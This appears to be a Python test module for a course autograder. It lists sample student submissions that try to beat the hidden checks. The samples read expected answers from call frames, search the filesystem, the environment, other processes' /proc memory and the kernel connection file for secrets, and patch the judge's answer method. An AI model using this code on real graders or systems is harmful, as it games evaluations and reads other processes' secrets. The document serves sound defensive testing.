# ruff: noqa: E501 (hostile code is as long as it is)
"""Reading the hidden checks: from the frames, the history, hooks, files, other processes' memory, the environment."""

from tests.autograde.attacks.attack import DOUBLE, END, REACHED, SQUARED, Attack

READING = [
    Attack(
        "takes the expected value from the frames above its call",
        double="""
import sys


def double(x):
    frame = sys._getframe()
    while frame is not None:
        case = frame.f_locals.get("case")
        if hasattr(case, "expected"):
            return case.expected
        frame = frame.f_back
    return x * 0 + 111
""",
        halve="""
import sys


def halve(x):
    frame = sys._getframe()
    while frame is not None:
        case = frame.f_locals.get("case")
        if hasattr(case, "expected"):
            return x * case.expected[0][0]
        frame = frame.f_back
    return x * 0 + 111
""",
        loses=("check-double", "hidden-double", "check-halve", "hidden-halve"),
        says=(REACHED,),
        unprotected="gains points",
    ),
    Attack(
        "keeps the source lines of whatever calls it",
        double="""
import inspect

lines = []


def double(x):
    try:
        raise ValueError
    except ValueError:
        for frame in inspect.stack(context=40):
            lines.extend(frame.code_context or [])
    return f"reached the end {loot(lines)}"
""",
        last="print(loot(lines))",
        says=(END + " []",),
        unprotected="reads a secret",
    ),
    Attack(
        "looks through the history of cells",
        last="""
import linecache

shell = get_ipython()
texts = ["".join(lines) for _, _, lines, _ in attempt(lambda: [each for each in linecache.cache.values() if len(each) == 4])]
texts += [*In, *map(str, Out.values()), *(text for name, text in shell.user_ns.items() if name.startswith("_i"))]
texts += [repr(line) for line in attempt(lambda: list(shell.history_manager.get_range(output=True)))]
texts += [repr(attempt(lambda: list(shell.history_manager.search("*hidden*"))))]
print("reached the end", len(texts), loot(texts))
""",
        unprotected="reads a secret",
    ),
    Attack(
        "hooks into the running of cells",
        first="""
heard = []
for event in ("pre_execute", "pre_run_cell", "post_run_cell", "post_execute"):
    get_ipython().events.register(event, lambda *told: heard.append(repr([vars(each) for each in told])))
""",
        last="print('reached the end', len(heard), loot(heard))",
        unprotected="reads a secret",
    ),
    Attack(
        "traces every call and keeps its arguments",
        between="""
import sys, threading

heard = []


def trace(frame, event, argument):
    if len(heard) < 20000:
        values = [value for value in frame.f_locals.values() if not isinstance(value, (dict, list)) or len(value) < 20]
        heard.append(str(attempt(repr, [frame.f_code.co_name, *values]))[:2000])


threading.setprofile(trace)
sys.setprofile(trace)
""",
        last="""
sys.setprofile(None)
print("reached the end", len(heard) > 10, loot(heard))
""",
        says=(END + " True", SQUARED),
    ),
    Attack(
        "listens to the interpreter's audit events",
        first="""
import sys

heard = []
sys.addaudithook(lambda event, arguments: heard.append(repr((event, arguments))) if len(heard) < 20000 else None)
""",
        last="print('reached the end', len(heard) > 10, loot(heard))",
        says=(END + " True",),
        unprotected="reads a secret",
    ),
    Attack(
        "searches every file that it can open",
        last="""
import itertools, os

found, read = [], 0
for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("sys", "usr", "lib", "include") or folder != "/" and name == "lib"]
    folders[:] = [name for name in folders if name not in ("torch", "sympy", "scipy", "sklearn", "matplotlib", "python3.11")]
    for name in names:
        path = os.path.join(folder, name)
        if name.endswith((".ipynb", ".db", ".jsonl", ".txt", "secret")) or "/toy" in path or "canary" in name.lower():
            if not os.path.isfile(path) or os.path.getsize(path) > 5_000_000:
                continue
            text = attempt(lambda: open(path, errors="replace").read())
            read += 1
            found += [(path, each) for each in loot(text)]
print("reached the end", read, found)
""",
    ),
    Attack(
        "opens the folders of the course by their names",
        last="""
import os

found = []
for folder in ("@course@", "@outside@", "@home@", "@checkout@/tests/autograde/toy", "/proc/self/cwd/..", "../.."):
    found.append(attempt(os.listdir, folder))
    for path in (".autograde/source/01_toy/01_toy.ipynb", "exercises/solutions/01_toy.py", ".autograde/secret", "gradebook.db"):
        text = attempt(lambda: open(os.path.join(folder, path), errors="replace").read())
        found.append(loot(text) or len(text))
for path in ("@canary_outside@", "@canary_home@", "@checkout@/tests/autograde/toy/cases/toy.py"):
    found.append(attempt(lambda: open(path).read()))
print("reached the end", found)
""",
        unprotected="reads a secret",
    ),
    Attack(
        "looks for the notebook that it is run from",
        last="""
import glob, os

found = [os.getcwd(), os.environ.get("JPY_SESSION_NAME", "")]
for pattern in ("**/*.ipynb", "**/*.json", "../*", "../../*", "../../../*"):
    for path in glob.glob(pattern, recursive=True)[:500]:
        found.append(loot(attempt(lambda: open(path, errors="replace").read())))
print("reached the end", found)
""",
    ),
    Attack(
        "reads the memory and the environment of other processes",
        last="""
import os

found, tried = [], 0
for number in {os.getppid(), os.getpid(), 1, 2, *range(3, 400), *@pids@}:
    for name in ("environ", "cmdline", "maps", "status"):
        text = attempt(lambda: open(f"/proc/{number}/{name}", errors="replace").read())
        tried += 1
        if name == "environ" or number != os.getpid():
            found += loot(text)
    if number == os.getpid():
        continue
    maps = attempt(lambda: open(f"/proc/{number}/maps").read())
    for line in [line for line in maps.splitlines() if "[heap]" in line or "[stack]" in line]:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        memory = attempt(lambda: open(f"/proc/{number}/mem", "rb"))
        if hasattr(memory, "seek"):
            found += loot(attempt(lambda: memory.seek(start) and memory.read(min(end - start, 1 << 26)).decode("latin1")))
print("reached the end", tried, sorted(set(found)))
""",
        unprotected="reads a secret",
    ),
    Attack(
        "reads its parent with process_vm_readv and ptrace",
        last="""
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(4096)
mine = Piece(ctypes.addressof(buffer), 4096)
got = []
for number in (os.getppid(), 1, *@pids@):
    theirs = Piece(id(os) & ~0xFFF, 4096)  # a fork has the same addresses
    if number and number != os.getpid():
        got.append(libc.process_vm_readv(number, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0))
        got.append(libc.ptrace(16, number, None, None))  # attach
        got.append(attempt(os.pidfd_open, number))
print("reached the end", "nothing" if all(each in (-1, 0) or isinstance(each, str) for each in got) else got)
""",
        says=(END,),
    ),
    Attack(
        "searches all objects in memory",
        last="""
import gc, sys

found, cases = [], []
for item in gc.get_objects():
    kind = type(item).__name__
    if kind in ("Case", "CaseDefinition", "Release", "Rebuilt", "Gradebook", "CourseFolder", "Entry"):
        cases.append(kind)
    if isinstance(item, (dict, list, tuple)) and item is not found and len(item) < 10000:
        values = [*item.values(), *item] if isinstance(item, dict) else item
        for text in [each for each in values if isinstance(each, str) and "CANARY-" in each]:
            found += loot(text)
print("reached the end", sorted(set(found)), "cases:", len(cases))
""",
        says=(END, "cases: 0"),
    ),
    Attack(
        "searches its own memory for text that the grader left in it",
        last="""
import ctypes, os

found, looked = set(), 0
maps = attempt(lambda: open("/proc/self/maps").read())
regions = [line.split()[0].split("-") for line in maps.splitlines() if " rw" in line and "[v" not in line]
memory = attempt(lambda: open("/proc/self/mem", "rb", 0))
needle = b"CANARY" + b"-hidden" + b"-"
for start, end in (tuple(int(part, 16) for part in region) for region in regions):
    if hasattr(memory, "seek") and end - start < 1 << 28:
        memory.seek(start)
        text = attempt(memory.read, end - start)
        looked += 1
        place = text.find(needle) if isinstance(text, bytes) else -1
        if place >= 0:
            found |= set(loot(text[place : place + 100].decode("latin1")))
print("reached the end", looked, found)
""",
    ),
    Attack(
        "reads the environment",
        last="""
import ctypes, os, subprocess, sys

texts = [repr(dict(os.environ)), attempt(lambda: open("/proc/self/environ").read())]
environ, place = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ"), 0
while environ[place]:
    texts.append(environ[place].decode("latin1"))
    place += 1
texts.append(repr(attempt(subprocess.run, ["/usr/bin/env"], capture_output=True)))
print("reached the end", loot(texts))
""",
        unprotected="reads a secret",
    ),
    Attack(
        "keeps what the judge asks",
        between="""
from course.check.student import Student

asked, answer = [], Student.answer


def listen(self, request):
    asked.append(repr((vars(self), request)))
    told = f"reached the end {loot(asked)} {'double_of' in repr(asked)} {'expected' in repr(asked)}"
    return {"value": told, "generators": {"tuple": [None]}} if request["operation"] == "call" else answer(self, request)


Student.answer = listen
""",
        loses=(*DOUBLE, "check-halve"),
        says=(END + " [] False False",),
    ),
    Attack(
        "reads from every descriptor that it inherited",
        first="""
import fcntl, os, socket, stat

found = []
for number in range(3, 256):
    state = attempt(os.fstat, number)
    if isinstance(state, str):
        continue
    kind = stat.S_IFMT(state.st_mode)
    if kind == stat.S_IFREG or kind == stat.S_IFDIR:
        found.append((number, attempt(os.readlink, f"/proc/self/fd/{number}"), loot(attempt(os.pread, number, 1 << 20, 0))))
        found.append(attempt(os.listdir, number) if kind == stat.S_IFDIR else "")
print("reached the end", found)
""",
    ),
    Attack(
        "attaches to the kernel's own debugger and control channel",
        last="""
kernel = get_ipython().kernel
texts = [repr({name: attempt(repr, value) for name, value in vars(kernel).items()})]
texts += [repr(attempt(lambda: kernel.session.__dict__)), repr(attempt(lambda: kernel.get_parent()))]
texts += [repr(attempt(lambda: vars(kernel.parent))), repr(attempt(lambda: open(kernel.parent.abs_connection_file).read()))]
print("reached the end", loot(texts))
""",
    ),
]
